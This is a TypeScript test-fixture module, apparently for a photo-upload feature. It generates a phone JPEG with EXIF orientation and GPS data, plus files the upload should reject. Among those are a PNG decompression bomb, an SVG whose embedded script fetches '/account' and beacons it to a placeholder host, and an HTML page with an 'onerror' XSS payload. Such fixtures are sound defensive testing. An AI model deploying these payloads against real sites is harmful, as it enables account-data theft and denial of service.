// Test photos, built on the spot: a phone photo with EXIF orientation and a GPS position, and the
// files an upload must refuse (a decompression bomb, a ZIP named .jpg, a truncated JPEG, an SVG…).
import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";

/** Where the test phone "took" its photos: the cooperative's workshops in Ogan Ilir. */
export const PHOTO_GPS = { latitude: "3/1 14/1 2400/100", longitude: "104/1 39/1 3600/100" };

export type PhonePhotoOptions = {
  /** Size as the sensor stores it; a phone held upright stores a landscape picture + orientation 6. */
  width?: number;
  height?: number;
  /** EXIF orientation, 1–8. 6: shown rotated 90° clockwise. */
  orientation?: number;
  /** JPEG quality; phones use 85–95. */
  quality?: number;
};

/**
 * A JPEG as a phone writes it: photo-like content (gradients, soft shapes, sensor grain, sharp
 * edges, so it compresses like a real photo rather than a flat colour or pure noise), EXIF with
 * camera make, date, orientation and a GPS position, an ICC profile and XMP.
 *
 * A red block marks the top-left corner of the stored pixels: with orientation 6 it must end up
 * at the top-right of the upright picture.
 */
export async function phonePhoto({
  width = 4000,
  height = 3000,
  orientation = 6,
  quality = 90,
}: PhonePhotoOptions = {}): Promise<Buffer> {
  // Light and shade over the whole frame and texture (wood, cloth), from random values enlarged
  // smoothly; then the bowl and the bench, drawn; then sensor grain over everything.
  const light = await noiseChannel(24, 18, 50, width, height);
  const texture = await noiseChannel(
    Math.round(width / 5),
    Math.round(height / 5),
    30,
    width,
    height,
  );
  // Warm workshop light: red above green above blue.
  const tint = [1.05, 0.8, 0.6];
  const shaded = Buffer.alloc(width * height * 3);
  for (let p = 0, i = 0; p < width * height; p++) {
    const shade = light[p]! + (texture[p]! - 128) * 0.6;
    for (let c = 0; c < 3; c++, i++) shaded[i] = Math.max(0, Math.min(255, shade * tint[c]!));
  }
  const scene = await sharp(shaded, { raw: { width, height, channels: 3 } })
    .composite([{ input: Buffer.from(photoShapes(width, height)), top: 0, left: 0 }])
    .removeAlpha()
    .raw()
    .toBuffer();
  const grain = await sharp({
    create: {
      width,
      height,
      channels: 3,
      background: "#000000",
      noise: { type: "gaussian", mean: 128, sigma: 9 },
    },
  })
    .raw()
    .toBuffer();
  for (let i = 0; i < scene.length; i++) {
    scene[i] = Math.max(0, Math.min(255, scene[i]! + grain[i]! - 128));
  }
  return sharp(scene, { raw: { width, height, channels: 3 } })
    .withExif({
      IFD0: {
        Make: "samsung",
        Model: "Galaxy A15",
        Software: "A155FXXU1AWL1",
        DateTime: "2026:10:04 09:41:27",
      },
      IFD2: { DateTimeOriginal: "2026:10:04 09:41:27", ExposureTime: "1/120", FNumber: "18/10" },
      IFD3: {
        GPSLatitudeRef: "S",
        GPSLatitude: PHOTO_GPS.latitude,
        GPSLongitudeRef: "E",
        GPSLongitude: PHOTO_GPS.longitude,
      },
    })
    .withMetadata({ orientation })
    .withXmp(
      '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="3,14.4S" exif:GPSLongitude="104,39.6E"/></rdf:RDF></x:xmpmeta>',
    )
    .jpeg({ quality })
    .toBuffer();
}

/** One channel of gaussian noise, `width` × `height`, enlarged smoothly to `toWidth` × `toHeight`. */
async function noiseChannel(
  width: number,
  height: number,
  sigma: number,
  toWidth: number,
  toHeight: number,
): Promise<Buffer> {
  const small = await sharp({
    create: {
      width,
      height,
      channels: 3,
      background: "#000000",
      noise: { type: "gaussian", mean: 128, sigma },
    },
  })
    .extractChannel(0)
    .png()
    .toBuffer();
  return sharp(small).resize(toWidth, toHeight, { kernel: "cubic" }).raw().toBuffer();
}

/** A copper bowl on a workbench, with hard edges, hammer marks, and the red corner marker. */
function photoShapes(width: number, height: number): string {
  const cx = width * 0.55;
  const cy = height * 0.55;
  const r = Math.min(width, height) * 0.32;
  const marks = Array.from({ length: 60 }, (_, i) => {
    const angle = (i * 137.5 * Math.PI) / 180;
    const distance = r * 0.85 * Math.sqrt((i + 0.5) / 60);
    return `<circle cx="${cx + Math.cos(angle) * distance}" cy="${cy + Math.sin(angle) * distance}" r="${r * 0.05}" fill="#f3c08a" fill-opacity="0.35"/>`;
  }).join("");
  const block = Math.round(Math.min(width, height) / 6);
  return `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
  <defs><radialGradient id="copper" cx="40%" cy="35%" r="70%">
    <stop offset="0" stop-color="#f6c28b"/><stop offset="0.5" stop-color="#b8692f"/><stop offset="1" stop-color="#4a2410"/>
  </radialGradient></defs>
  <rect x="0" y="${height * 0.78}" width="${width}" height="${height * 0.22}" fill="#5b3b22" fill-opacity="0.8"/>
  ${Array.from({ length: 12 }, (_, i) => `<line x1="0" y1="${height * (0.8 + i * 0.017)}" x2="${width}" y2="${height * (0.79 + i * 0.018)}" stroke="#3a2414" stroke-width="3" stroke-opacity="0.5"/>`).join("")}
  <ellipse cx="${cx}" cy="${cy}" rx="${r}" ry="${r * 0.8}" fill="url(#copper)"/>
  <ellipse cx="${cx}" cy="${cy - r * 0.55}" rx="${r * 0.95}" ry="${r * 0.22}" fill="none" stroke="#e9a66a" stroke-width="${r * 0.04}"/>
  ${marks}
  <rect x="0" y="0" width="${block}" height="${block}" fill="#ff0000"/>
</svg>`;
}

/** A small, ordinary picture in the given format (no EXIF), e.g. to check each input format. */
export async function plainPhoto(
  format: "jpeg" | "png" | "webp" | "avif" | "gif" | "tiff",
  width = 1200,
  height = 900,
): Promise<Buffer> {
  const picture = sharp({
    create: {
      width,
      height,
      channels: 3,
      background: "#b8692f",
      noise: { type: "gaussian", mean: 128, sigma: 20 },
    },
  });
  return picture.toFormat(format, format === "avif" ? { effort: 0 } : {}).toBuffer();
}

/**
 * A decompression bomb: a PNG of a few hundred bytes whose header declares `side` × `side` pixels
 * (30000² = 900 megapixels, 2.7 GB once decoded). Built by hand, with a valid IHDR and a small
 * IDAT holding the first rows.
 */
export function pngBomb(side = 30_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // colour type: RGB
  ihdr[10] = 0; // compression
  ihdr[11] = 0; // filter
  ihdr[12] = 0; // no interlace
  // Four rows of black pixels (filter byte 0 + RGB), deflated: a few hundred bytes.
  const rows = Buffer.alloc(4 * (1 + side * 3));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", ihdr),
    pngChunk("IDAT", deflateSync(rows, { level: 9 })),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

/** A real ZIP archive (one stored text file), as it arrives when renamed "mangkuk.jpg". */
export function zipArchive(): Buffer {
  const name = Buffer.from("katalog.txt");
  const content = Buffer.from("Daftar harga mangkuk tembaga\n");
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4); // version needed
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4); // version made by
  central.writeUInt16LE(20, 6); // version needed
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(name.length, 28);
  central.writeUInt32LE(0, 42); // offset of the local header
  const centralOffset = local.length + name.length + content.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, name, content, central, name, end]);
}

/** A JPEG cut off part-way, as an upload interrupted by a weak mobile signal arrives. */
export async function truncatedJpeg(): Promise<Buffer> {
  const whole = await phonePhoto({ width: 1600, height: 1200, orientation: 1 });
  return whole.subarray(0, Math.floor(whole.length * 0.6));
}

/** An SVG with a script in it: a picture, but never accepted as a photo. */
export function svgWithScript(): Buffer {
  return Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600" viewBox="0 0 800 600">
  <script>fetch("/account").then((r) => r.text()).then((t) => navigator.sendBeacon("https://example.invalid", t))</script>
  <circle cx="400" cy="300" r="200" fill="#b8692f"/>
</svg>`,
  );
}

export function htmlPage(): Buffer {
  return Buffer.from(
    '<!doctype html><html><head><title>Foto</title></head><body><img src=x onerror="alert(1)"></body></html>',
  );
}

export function pdfDocument(): Buffer {
  return Buffer.from(
    "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
  );
}

/** `bytes` long and starting like a JPEG: only its size must refuse it. */
export function oversizedJpeg(bytes = 16 * 1024 * 1024): Buffer {
  const buffer = Buffer.alloc(bytes);
  Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00]).copy(buffer);
  return buffer;
}

/** Whether raw EXIF data holds a GPS directory (tag 0x8825, in either byte order). */
export function hasGpsDirectory(exif: Buffer | undefined): boolean {
  if (!exif) return false;
  return exif.includes(Buffer.from([0x88, 0x25])) || exif.includes(Buffer.from([0x25, 0x88]));
}
